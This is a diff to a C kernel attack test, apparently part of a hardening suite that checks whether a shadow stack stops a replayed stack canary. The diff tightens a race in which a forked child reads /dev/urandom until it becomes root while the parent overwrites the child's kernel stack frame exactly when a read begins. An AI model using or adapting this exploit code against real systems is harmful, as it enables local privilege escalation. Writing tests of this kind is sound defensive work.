@@ -10,6 +10,7 @@ ATTACK("shadow_stack", "replayed_canary", "shadow_stack: return address changed"
        "The function finds its canary sound, returns where the program wants, and the "
        "program is root.");
 
+#define PAGE 4096
 #define PART (4l << 20)
 #define PARTS 48 /* of the same memory: the read takes much longer than the attacker */
 /* The call stands this far from the caller's start at most. */
@@ -20,28 +21,28 @@ static bool control(void)
 	return is_ordinary();
 }
 
-static long map_parts(void)
+/* A page that the attacker sees too, then the parts: what it says stands there when they begin. */
+static uint64_t *map_parts(void)
 {
 	const long file = call2(__NR_memfd_create, (long)"part", 0);
-	const long area = call6(__NR_mmap, 0, PARTS * PART, PROT_READ | PROT_WRITE,
-				MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
+	const long area = call6(__NR_mmap, 0, PAGE + PARTS * PART, PROT_READ | PROT_WRITE,
+				MAP_SHARED | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
 
 	call2(__NR_ftruncate, file, PART);
 	for (long i = 0; i < PARTS; i++)
-		call6(__NR_mmap, area + i * PART, PART, PROT_READ | PROT_WRITE,
+		call6(__NR_mmap, area + PAGE + i * PART, PART, PROT_READ | PROT_WRITE,
 		      MAP_SHARED | MAP_FIXED, file, 0);
-	return area;
+	return (uint64_t *)area;
 }
 
 /* Reads of random bytes: a loop in the kernel around an array of 256 bytes. */
-static void read_until_root(void)
+static void read_until_root(uint64_t *area)
 {
-	const long area = map_parts();
 	const long file = call3(__NR_open, (long)"/dev/urandom", O_RDONLY, 0);
 
 	(void)own_cpu(1);
 	do
-		call3(__NR_read, file, area, PARTS * PART);
+		call3(__NR_read, file, (long)area, PAGE + PARTS * PART);
 	while (call0(__NR_geteuid) != 0);
 	leave(reads_prize() ? 1 : 0);
 }
@@ -86,22 +87,27 @@ static bool overflow(uint64_t child, uint64_t top)
 	return true;
 }
 
+/* A read has just begun: none ends while its frame is being written. */
+static bool read_begins(uint64_t *area)
+{
+	return __atomic_exchange_n(area, 0, __ATOMIC_RELAXED) != 0;
+}
+
 static bool fire(void)
 {
 	const uint64_t task = own_task();
+	uint64_t *area = map_parts(), child, top;
 	const long id = fork_program();
-	uint64_t child, top;
 	int status = 0;
 
 	if (id == 0)
-		read_until_root();
+		read_until_root(area);
 	(void)own_cpu(0);
 	child = child_task(task, id);
 	top = peek(child + member("task.stack_top"));
-	do {
-		sleep_milliseconds(1);
-		(void)overflow(child, top);
-	} while (call4(__NR_wait4, id, (long)&status, 1, 0) == 0);
+	for (; call4(__NR_wait4, id, (long)&status, 1, 0) == 0; sleep_milliseconds(1))
+		if (read_begins(area))
+			(void)overflow(child, top);
 	if ((status & 0x7f) == SIGKILL)
 		call2(__NR_kill, call0(__NR_getpid), SIGKILL);
 	return status >> 8 == 1;
